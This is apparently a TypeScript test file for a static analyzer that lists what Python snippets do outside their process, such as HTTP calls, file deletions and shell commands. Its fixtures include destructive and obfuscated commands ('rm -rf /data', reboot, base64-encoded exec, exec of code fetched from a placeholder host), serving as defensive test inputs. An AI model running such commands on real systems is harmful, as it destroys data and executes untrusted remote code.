import assert from 'node:assert/strict';
import { test } from 'node:test';
import { doneBy } from '../lines';

/** What Python code does outside its process. */
const rows: readonly (readonly [code: string, lines: readonly string[], files?: Readonly<Record<string, string>>])[] = [
  [
    "import requests\nrequests.post('https://b.example/g', json={'query': 'q', 'n': [1, True, None]}, headers={'Authorization': 'Bearer x'})",
    ['POST b.example/g [Authorization: Bearer x] credential {"query":"q","n":[1,true,null]}'],
  ],
  ["import requests as r\nr.get('https://b.example/g', params={'a': 'b'})", ['GET b.example/g?a=b']],
  ["from requests import post\npost(url='https://b.example/g', data='text')", ['POST b.example/g text']],
  ["import requests\nrequests.request('DELETE', 'https://b.example/g')", ['DELETE b.example/g']],
  ["import requests\nrequests.post('https://b.example/g', {'a': 'b c'})", ['POST b.example/g a=b%20c']],
  ["import requests\nrequests.delete('https://b.example/g', auth=('me', 'pw'))", ['DELETE b.example/g credential']],
  [
    "import requests\ns = requests.Session()\ns.headers.update({'A': 'b'})\ns.headers['C'] = 'd'\ns.put('https://b.example/g', json=[])",
    ['PUT b.example/g [A: b, C: d] []'],
  ],
  ["import requests\nwith requests.Session() as s:\n    s.post('https://b.example/g', json={})", ['POST b.example/g {}']],
  [
    "import httpx\nc = httpx.Client(base_url='https://b.example', headers={'A': 'b'})\nc.post('/g', json={'a': 1})",
    ['POST b.example/g [A: b] {"a":1}'],
  ],
  [
    "import httpx, asyncio\nasync def main():\n    async with httpx.AsyncClient() as c:\n        await c.get('https://b.example/g')\nasyncio.run(main())",
    ['GET b.example/g'],
  ],
  [
    "import aiohttp\nasync def m():\n    async with aiohttp.ClientSession(headers={'A': 'b'}) as s:\n        async with s.post('https://b.example/g', json={'a': 1}) as r:\n            print(await r.text())\nm()",
    ['POST b.example/g [A: b] {"a":1}'],
  ],
  ["import urllib.request\nurllib.request.urlopen('https://b.example/g')", ['GET b.example/g']],
  [
    "from urllib.request import Request, urlopen\nr = Request('https://b.example/g', data=b'x', method='PUT')\nr.add_header('A', 'b')\nurlopen(r)",
    ['PUT b.example/g [A: b] x'],
  ],
  [
    "import urllib.request as u, json\nu.urlopen(u.Request('https://b.example/g', json.dumps({'a': 'b'}).encode('utf-8'), {'A': 'b'}))",
    ['POST b.example/g [A: b] {"a":"b"}'],
  ],
  [
    "import http.client\nc = http.client.HTTPSConnection('b.example')\nc.request('POST', '/g', body='x', headers={'A': 'b'})",
    ['POST b.example/g [A: b] x'],
  ],
  ["import urllib3\nurllib3.PoolManager().request('POST', 'https://b.example/g', body='x')", ['POST b.example/g x']],
  ["import requests\nh = 'b.example'\nrequests.get(f'https://{h}/g?x={1}')", ['GET b.example/g?x=1']],
  ["import requests\nrequests.get('https://%s/%d' % ('b.example', 3))", ['GET b.example/3']],
  ["import requests\nrequests.get('https://{}/{x}'.format('b.example', x='y'))", ['GET b.example/y']],
  ["import requests\nrequests.get('/'.join(['https:', '', 'b.example', 'g']))", ['GET b.example/g']],
  ["import requests\nrequests.get('g/elpmaxe.b//:sptth'[::-1])", ['GET b.example/g']],
  ["import requests\nrequests.get('HTTPS://B.EXAMPLE/X'.lower().replace('x', 'y'))", ['GET b.eyample/x', 'GET b.eyample/y']],
  ["import requests, base64\nrequests.get(base64.b64decode('aHR0cHM6Ly9iLmV4YW1wbGUvZw==').decode())", ['GET b.example/g']],
  ["import requests\nrequests.get(bytes.fromhex('68747470733a2f2f622e6578616d706c65').decode())", ['GET b.example/']],
  ["import requests\nrequests.get(''.join(chr(c) for c in [104,116,116,112]))", ['GET http/']],
  ["import requests\nrequests.get('''https://b.example/'''\n  'a' r'\\b')", ['GET b.example/a/b']],
  [
    "import requests, os\nrequests.get(os.environ['URL'] + '/g', headers={'Authorization': 'Bearer ' + os.getenv('T', '')})",
    ['GET \u2039?\u203a/g [Authorization: Bearer \u2039?\u203a] credential'],
  ],
  ["import requests\nu = 'https://a.example'\nif x:\n    u = 'https://b.example'\nrequests.get(u)", ['GET a.example/', 'GET b.example/']],
  ["import requests\nrequests.get('https://a.example' if x else 'https://b.example')", ['GET a.example/', 'GET b.example/']],
  ["import requests\nfor v in ['a', 'b']:\n    requests.delete(f'https://b.example/{v}')", ['DELETE b.example/a', 'DELETE b.example/b']],
  ["import requests\n[requests.delete('https://b.example/' + v) for v in ('a', 'b')]", ['DELETE b.example/a', 'DELETE b.example/b']],
  [
    "import requests\ndef go(path, base='https://b.example', **k):\n    return requests.get(base + path, **k)\ngo('/x', headers={'A': 'b'})",
    ['GET b.example/x [A: b]'],
  ],
  [
    "import requests\nclass Api:\n    BASE = 'https://b.example'\n    def __init__(self, t):\n        self.t = t\n    def call(self, q, **v):\n        return requests.post(self.BASE + '/g', json={'query': q, 'variables': v}, headers={'A': self.t})\nApi('x').call('q', id=1)",
    ['POST b.example/g [A: x] {"query":"q","variables":{"id":1}}'],
  ],
  ["import requests\np = {}\np['query'] = 'q'\nrequests.post('https://b.example/g', json=p)", ['POST b.example/g {"query":"q"}']],
  [
    "import requests\nrequests.post('https://b.example/g', json={**x, 'a': 1})",
    ['POST b.example/g {"\u2039?\u203a":"\u2039?\u203a","a":1}'],
  ],
  ["import requests\nrequests.post('https://b.example/g', json=x)", ['POST b.example/g "\u2039?\u203a"']],
  [
    "import json, requests\nrequests.post('https://b.example/g', json=json.load(open('q.json')))",
    ['read /home/you/projects/shop/q.json', 'POST b.example/g {"a":[1]}'],
    { 'q.json': '{"a":[1]}' },
  ],
  [
    "import requests\nrequests.post('https://b.example/g', data=open('q.txt').read())",
    ['read /home/you/projects/shop/q.txt', 'POST b.example/g text'],
    { 'q.txt': 'text' },
  ],
  [
    "import requests\nfrom pathlib import Path\nrequests.post('https://b.example/g', data=Path('q.txt').read_text())",
    ['read /home/you/projects/shop/q.txt', 'POST b.example/g text'],
    { 'q.txt': 'text' },
  ],
  ["client.post('https://b.example/g', json={'a': 1})", ['POST b.example/g credential {"a":1}']],
  ["import os\nos.system('rm -rf /data')", ['rm -rf /data', 'delete -r /data']],
  [
    "import subprocess\nsubprocess.run(['rm', '-rf', '/data'])\nsubprocess.check_output('rm /x', shell=True)\nsubprocess.call('reboot')",
    ['rm -rf /data', 'delete -r /data', 'rm /x', 'delete /x', 'reboot'],
  ],
  ["from subprocess import Popen, PIPE\nPopen(['psql'], stdin=PIPE, cwd='/srv')", ['psql']],
  [
    "import os, pty, asyncio\nos.popen('ls')\nos.execvp('rm', ['rm', '-rf', '/data'])\npty.spawn(['bash', '-c', 'rm /x'])\nasyncio.create_subprocess_exec('rm', '/y')",
    ['ls', 'rm -rf /data', 'delete -r /data', 'bash -c rm /x', 'rm /x', 'delete /x', 'rm /y', 'delete /y'],
  ],
  ['import subprocess\nsubprocess.run(cmd)\nsubprocess.run(cmd, shell=True)', ['opaque dynamic-program', 'opaque dynamic-program']],
  [
    "import os, shutil\nos.remove('a')\nos.unlink('/b')\nos.rmdir('c/../d')\nshutil.rmtree('/e')\nos.rename('f', 'g')\nshutil.move('h', '/i')\nos.truncate('j', 0)",
    [
      'delete /home/you/projects/shop/a',
      'delete /b',
      'delete /home/you/projects/shop/d',
      'delete -r /e',
      'move /home/you/projects/shop/f \u2192 /home/you/projects/shop/g',
      'move /home/you/projects/shop/h \u2192 /i',
      'truncate /home/you/projects/shop/j',
    ],
  ],
  [
    "from pathlib import Path\nPath('/a').unlink()\n(Path('/b') / 'c').unlink()\nPath('/d').write_text('x')\nPath('/e').rename('/f')\nPath.home().joinpath('x').unlink()",
    ['delete /a', 'delete /b/c', 'overwrite /d = x', 'move /e \u2192 /f', 'delete /home/you/x'],
  ],
  [
    "open('/a', 'w').write('x')\nopen('/b', mode='a')\nwith open('/c') as f:\n    print(f.read())",
    ['overwrite /a', 'overwrite /a = x', 'append /b', 'read /c'],
  ],
  ['exec(\'import os; os.remove("/a")\')', ['delete /a']],
  ['eval(\'__import__("os").system("rm /a")\')', ['rm /a', 'delete /a']],
  ["import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoJy9hJyk='))", ['delete /a']],
  ["import requests\nexec(requests.get('https://a.example').text)", ['GET a.example/', 'opaque fetched-code']],
  ['import zlib\nexec(zlib.decompress(data))', ['opaque decoded-code']],
  ['exec(code)', ['opaque unreadable-code']],
  ["import importlib\nimportlib.import_module('os').remove('/a')\ngetattr(__import__('os'), 'remove')('/b')", ['delete /a', 'delete /b']],
  ["def f():\n    import os\n    os.remove('/never called')\nprint('os.remove(1)')", []],
  ["print('mutation { volumeDelete }', 'https://backboard.railway.app')", []],
  [
    "import socket\ns = socket.create_connection(('backboard.railway.app', 443))",
    ['POST backboard.railway.app/\u2039?\u203a credential unreadable (code that was not understood)'],
  ],
  ["# https://backboard.railway.app\nimport requests\nrequests.get('https://b.example')", ['GET b.example/']],
  [
    "from pathlib import Path\nPath.home().joinpath('x').unlink()\n(Path.home() / 'y').unlink()\nPath('~/z').expanduser().write_text('q')",
    ['delete /home/you/x', 'delete /home/you/y', 'overwrite /home/you/z = q'],
  ],
  [
    "import os, shutil\nshutil.rmtree(os.path.expanduser('~/x'))\nos.remove(os.path.join('/a', 'b'))",
    ['delete -r /home/you/x', 'delete /a/b'],
  ],
  ["import requests\nrequests.get(''.join(chr(c) for c in [104,116,116,112,58,47,47,98,46,101]))", ['GET b.e/']],
  [
    "for f in files:\n    os.remove(f)\nimport os, glob\nfor f in glob.glob('/data/*'):\n    os.remove(f)",
    ['delete \u2039?\u203a', 'delete /data/*'],
  ],
];

for (const [code, lines, files] of rows) {
  test(code, () => assert.deepEqual(doneBy('python3 -', code, files), lines));
}
